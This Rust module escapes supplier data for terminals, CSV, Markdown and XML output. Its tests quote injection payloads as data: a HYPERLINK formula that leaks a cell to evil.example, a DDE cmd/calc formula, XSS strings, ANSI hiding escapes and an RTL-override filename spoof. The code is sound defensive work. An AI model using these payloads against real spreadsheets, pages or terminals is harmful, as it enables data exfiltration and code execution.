//! Output guards: what each kind of reader would execute or act on, neutralised in one place
//! per format. Supplier data comes from outside (vendors' spreadsheets, scraped registries,
//! sanctions lists), and every id, name and reason the tool writes may carry a payload.
//!
//! | reader | guard | what it does |
//! |---|---|---|
//! | a terminal, a log | [`text`], [`text_lines`] | control characters (C0, DEL, C1, bidi overrides and isolates, line and paragraph separators) become visible escapes: ESC is written `\x1b`, U+202E `\u{202e}` |
//! | a spreadsheet (and a terminal that shows the file) | [`csv_cell`] | control characters become visible escapes, as for a terminal; then a cell that begins with `=`, `+`, `-`, `@`, tab or CR (after any spaces) is prefixed with `'` (the OWASP rule), unless it is a plain number; `--no-csv-guard` turns both off |
//! | a Markdown renderer | [`markdown`] | `\`, `` ` ``, `|`, `[`, `]` are backslash-escaped, `<` is written `&lt;`, line breaks become spaces and other control characters visible escapes: no raw HTML, no link, no new cell or line |
//! | an XML parser | [`xml_chars`], [`xml_text`], [`xml_attr`] | characters XML 1.0 forbids (C0 but tab, LF and CR; U+FFFE, U+FFFF) become visible escapes; markup is escaped |
//!
//! Each guard returns its input unchanged (borrowed) when there is nothing to neutralise, so
//! ordinary data costs no copy and every output of ordinary data stays byte for byte as it was.
//! HTML has its own escaping ([`crate::report::html::esc`]); JSON needs none (serde escapes
//! control characters, and a JSON reader executes nothing).

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether a terminal, a text viewer or a bidi-aware renderer would act on `c` rather than
/// show it (C0, DEL, C1, bidi controls, line and paragraph separators): the one definition,
/// shared with validation, which refuses these in ids.
pub use crate::ingest::id_chars::is_control_char as is_control;

/// The visible form of a control character: `\x1b` for one below U+0100, `\u{202e}` above.
pub fn visible(c: char, out: &mut String) {
    let code = u32::from(c);
    if code < 0x100 {
        let _ = write!(out, "\\x{code:02x}");
    } else {
        let _ = write!(out, "\\u{{{code:x}}}");
    }
}

/// `text` with every character for which `hit` holds replaced by `with`; borrowed when none
/// does.
fn replace_where(
    text: &str,
    hit: impl Fn(char) -> bool,
    with: impl Fn(char, &mut String),
) -> Cow<'_, str> {
    let Some(first) = text.find(&hit) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 8);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if hit(c) {
            with(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A value for one line of terminal or log output: every control character, line breaks and
/// tabs included, as a visible escape. `"ok\x1b[8m"` becomes `ok\x1b[8m` with a literal
/// backslash, so it can neither hide what follows nor start a line of its own.
pub fn text(value: &str) -> Cow<'_, str> {
    replace_where(value, is_control, visible)
}

/// A whole text document whose line breaks are the tool's own (a summary, a what-if listing):
/// line feeds are kept, every other control character becomes a visible escape. Values that
/// may hold line breaks of their own should go through [`text`] where they are formatted.
pub fn text_lines(doc: &str) -> Cow<'_, str> {
    replace_where(doc, |c| c != '\n' && is_control(c), visible)
}

/// Whether a spreadsheet would read `cell` as a formula: it begins, after any spaces, with
/// `=`, `+`, `-` or `@`, or begins with a tab or a carriage return, and it is not a plain
/// number (`-0.5`, `+3`).
pub fn is_formula_like(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    if matches!(first, '\t' | '\r') {
        return true;
    }
    let rest = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}']);
    match rest.chars().next() {
        Some('=' | '@') => true,
        Some('+' | '-') => !is_plain_number(rest),
        _ => false,
    }
}

/// `[+-]digits[.digits]`: what a spreadsheet reads as a number, never as a formula.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, ""));
    !int.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
        && frac.is_empty() != digits.contains('.')
}

/// A CSV cell for a spreadsheet, and for the terminal or pager an analyst first looks at the
/// file in: every control character becomes a visible escape as in [`text`] (an escape
/// sequence in a supplier's name can neither hide a row on `cat findings.csv` nor reverse the
/// text a spreadsheet shows, and a cell never spans two lines); then a cell that
/// [`is_formula_like`] gets a leading `'` (OWASP, "CSV Injection"), which Excel and
/// LibreOffice show as text. Every other cell is as given.
pub fn csv_cell(cell: &str) -> Cow<'_, str> {
    let shown = text(cell);
    if is_formula_like(&shown) {
        Cow::Owned(format!("'{shown}"))
    } else {
        shown
    }
}

/// Whether CSV cells are guarded with [`csv_cell`] (the default), or written as they are for
/// programs that read the file (`--no-csv-guard`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvGuard {
    On,
    Off,
}

impl CsvGuard {
    /// `cell`, guarded or not.
    pub fn cell(self, cell: &str) -> Cow<'_, str> {
        match self {
            CsvGuard::On => csv_cell(cell),
            CsvGuard::Off => Cow::Borrowed(cell),
        }
    }
}

/// Text for a Markdown table cell, heading, list item or quote: it stays one inline run of
/// text. `\`, `` ` ``, `|`, `[` and `]` are backslash-escaped (no link, image, code span or
/// new column), `<` becomes `&lt;` (no raw HTML, no autolink), line feeds and carriage returns
/// become spaces (no new line, heading or row), and other control characters become visible
/// escapes.
pub fn markdown(value: &str) -> Cow<'_, str> {
    replace_where(
        value,
        |c| matches!(c, '\\' | '`' | '|' | '[' | ']' | '<') || is_control(c),
        |c, out| match c {
            '\\' | '`' | '|' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            '<' => out.push_str("&lt;"),
            '\n' | '\r' => out.push(' '),
            c => visible(c, out),
        },
    )
}

/// Whether XML 1.0 forbids `c` anywhere in a document (its `Char` production): C0 controls
/// other than tab, line feed and carriage return, and U+FFFE and U+FFFF. (Surrogates cannot
/// occur in a Rust string.)
pub fn is_xml_forbidden(c: char) -> bool {
    matches!(c, '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}')
}

/// `doc` with every character XML 1.0 forbids replaced by its visible escape; the markup is
/// left as it is. For a whole document made by a library that escapes markup but not control
/// characters (plotters' SVG).
pub fn xml_chars(doc: &str) -> Cow<'_, str> {
    replace_where(doc, is_xml_forbidden, visible)
}

/// Text for XML element content: markup escaped, forbidden characters visible.
pub fn xml_text(value: &str) -> Cow<'_, str> {
    replace_where(
        value,
        |c| matches!(c, '&' | '<' | '>' | '"' | '\'') || is_xml_forbidden(c),
        |c, out| match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => visible(c, out),
        },
    )
}

/// Text for an XML attribute value: as [`xml_text`], and tab, line feed and carriage return
/// as character references, which attribute-value normalisation would otherwise turn into
/// spaces.
pub fn xml_attr(value: &str) -> Cow<'_, str> {
    let text = xml_text(value);
    if !text.contains(['\t', '\n', '\r']) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '\t' => out.push_str("&#9;"),
            '\n' => out.push_str("&#10;"),
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn text_makes_every_control_character_visible() {
        assert_eq!(text("ok\u{1b}[8mhidden"), "ok\\x1b[8mhidden");
        assert_eq!(text("a\nb\tc\r"), "a\\x0ab\\x09c\\x0d");
        assert_eq!(text("\u{7f}\u{85}\u{9b}"), "\\x7f\\x85\\x9b");
        assert_eq!(text("abc\u{202e}fdp.exe"), "abc\\u{202e}fdp.exe");
        assert_eq!(text("\u{2066}x\u{2069}"), "\\u{2066}x\\u{2069}");
        assert!(matches!(
            text("Taiwan Semiconductor — 台積電"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn text_lines_keeps_the_line_feeds() {
        assert_eq!(
            text_lines("one\u{1b}]0;owned\u{7}\ntwo\r\n"),
            "one\\x1b]0;owned\\x07\ntwo\\x0d\n"
        );
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_evaluate_get_a_quote() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
            "=2*3",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "  =1",
            "-",
            "+",
        ] {
            assert_eq!(csv_cell(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in [
            "", "0.5", "-0.5", "+3", "-12", "fab-tw", "a=b", "1e5", "Acme", "'quoted",
        ] {
            assert_eq!(csv_cell(fine), fine, "{fine:?}");
        }
        assert_eq!(CsvGuard::Off.cell("=2*3"), "=2*3");
    }

    #[test]
    fn csv_cells_show_control_characters_as_escapes() {
        assert_eq!(csv_cell("ok\u{1b}[8mhidden"), "ok\\x1b[8mhidden");
        assert_eq!(csv_cell("two\nlines"), "two\\x0alines");
        assert_eq!(csv_cell("abc\u{202e}fdp.exe"), "abc\\u{202e}fdp.exe");
        // A tab or carriage return in front is made visible, and what follows still guarded.
        assert_eq!(csv_cell("\t=1"), "\\x09=1");
        assert_eq!(csv_cell("=1\u{1b}"), "'=1\\x1b");
        assert!(matches!(
            csv_cell("Taiwan Semiconductor — 台積電"),
            Cow::Borrowed(_)
        ));
        assert_eq!(CsvGuard::Off.cell("a\u{1b}b"), "a\u{1b}b");
    }

    #[test]
    fn markdown_cannot_open_html_links_cells_or_lines() {
        assert_eq!(
            markdown("<img src=x onerror=alert(1)>"),
            "&lt;img src=x onerror=alert(1)>"
        );
        assert_eq!(
            markdown("[x](javascript:alert(1))"),
            "\\[x\\](javascript:alert(1))"
        );
        assert_eq!(markdown("a|b"), "a\\|b");
        assert_eq!(markdown("a\\|b"), "a\\\\\\|b");
        assert_eq!(markdown("x\n# ALL CLEAR\r\n"), "x # ALL CLEAR  ");
        assert_eq!(markdown("`code`"), "\\`code\\`");
        assert_eq!(markdown("\u{1b}[31m"), "\\x1b\\[31m");
        assert!(matches!(markdown("Fab (Taiwan) > wafer"), Cow::Borrowed(_)));
    }

    #[test]
    fn xml_guards_leave_only_allowed_characters() {
        assert_eq!(
            xml_chars("<t>a\u{1b}b\u{fffe}</t>"),
            "<t>a\\x1bb\\u{fffe}</t>"
        );
        assert_eq!(xml_text("a<b&\u{0}"), "a&lt;b&amp;\\x00");
        assert_eq!(xml_attr("a\tb\nc"), "a&#9;b&#10;c");
        assert!(matches!(xml_text("plain"), Cow::Borrowed(_)));
    }

    proptest! {
        /// No control character survives the text guard; no forbidden character the XML guards.
        #[test]
        fn guards_leave_nothing_to_act_on(s in "\\PC*|[\\x00-\\x1f\\x7f-\\u{9f}\\u{202a}-\\u{202e}a<|\\[\\]]*") {
            prop_assert!(!text(&s).chars().any(is_control));
            prop_assert!(!text_lines(&s).chars().any(|c| c != '\n' && is_control(c)));
            prop_assert!(!xml_chars(&s).chars().any(is_xml_forbidden));
            prop_assert!(!xml_attr(&s).chars().any(|c| is_xml_forbidden(c) || matches!(c, '<' | '\n')));
            let md = markdown(&s);
            prop_assert!(!md.chars().any(|c| is_control(c) || c == '<'));
            let cell = csv_cell(&s);
            prop_assert!(!cell.chars().any(is_control));
            prop_assert!(!cell.starts_with(['=', '+', '-', '@']) || is_plain_number(&s));
        }
    }
}
